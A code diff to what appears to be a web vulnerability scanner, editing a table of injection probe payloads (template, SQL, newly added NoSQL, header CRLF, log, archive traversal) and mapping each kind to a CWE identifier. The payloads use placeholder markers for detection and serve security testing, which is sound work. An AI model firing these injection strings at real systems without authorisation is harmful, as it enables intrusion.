@@ -22,7 +22,7 @@ PAYLOADS = {
         "x'," + CALL2 + ",'x", 'x",' + CALL + ',"x',
     ],
     "template": [
-        "{{ @@A@@*@@B@@ }}", "${@@A@@*@@B@@}", "<%= @@A@@*@@B@@ %>", "{%% widthratio @@A@@ 1 @@B@@ %%}".replace("%%", "%"), "#{@@A@@*@@B@@}", "}}{{ @@A@@*@@B@@ }}{{", "{@@A@@*@@B@@}", "<% print(@@A@@*@@B@@) %>", "' ~ (@@A@@*@@B@@) ~ '",
+        "{{@@A@@*@@B@@}}", "${@@A@@*@@B@@}", "<%= @@A@@*@@B@@ %>", "{%% widthratio @@A@@ 1 @@B@@ %%}".replace("%%", "%"), "#{@@A@@*@@B@@}", "}}{{ @@A@@*@@B@@ }}{{", "{@@A@@*@@B@@}", "<% print(@@A@@*@@B@@) %>", "' ~ (@@A@@*@@B@@) ~ '",
     ],
     "sql": [
         "x'||@@FN@@(@@A@@)||'x", "1-@@FN@@(@@A@@)", "x\"||@@FN@@(@@A@@)||\"x", "@@FN@@(@@A@@)", "x' OR @@FN@@(@@A@@)-- ", "1 OR @@FN@@(@@A@@)-- ", "x') OR @@FN@@(@@A@@)-- ", "x') OR @@FN@@(@@A@@) OR ('x", "x\" OR @@FN@@(@@A@@)-- ",
@@ -53,11 +53,12 @@ PAYLOADS = {
     "archive": ["@@AS:tar@@@@UP@@@@FLAG@@", "@@AS:zip@@@@UP@@@@FLAG@@", "@@AS:tar@@@@FLAG@@", "@@AS:zip@@@@FLAG@@"],
     "filename": ["@@UP@@@@FLAG@@", "@@FLAG@@"],
     "header": ["x\r\nX-@@MARK@@: 1", "x\nX-@@MARK@@: 1"],
+    "nosql": ['{"$ne": "@@MARK@@"}', "x' || @@FN@@(@@A@@) || 'x", "x\" || @@FN@@(@@A@@) || \"x", "1 || @@FN@@(@@A@@)", "x') || @@FN@@(@@A@@) || ('x", "@@FN@@(@@A@@)"],
     "log": ["x\n@@MARK@@ an entry that nobody made", "x\r\n@@MARK@@ an entry that nobody made"],
 }
 # What each kind is called when its effect is seen.
 WEAKNESS = {
     "path": "CWE-22", "command": "CWE-78", "code": "CWE-94", "template": "CWE-1336", "sql": "CWE-89", "deserialise": "CWE-502", "xml": "CWE-611", "xss": "CWE-79", "redirect": "CWE-601",
     "ssrf": "CWE-918", "ldap": "CWE-90", "xpath": "CWE-643", "archive": "CWE-22", "filename": "CWE-22", "hash": "CWE-328", "random": "CWE-330", "cookie": "CWE-614", "cookie-script": "CWE-1004", "session": "CWE-501",
-    "stored-xss": "CWE-79", "regex": "CWE-1333", "object": "CWE-639", "header": "CWE-113", "log": "CWE-117",
+    "stored-xss": "CWE-79", "regex": "CWE-1333", "object": "CWE-639", "header": "CWE-113", "log": "CWE-117", "nosql": "CWE-943", "clock": "CWE-330",
 }
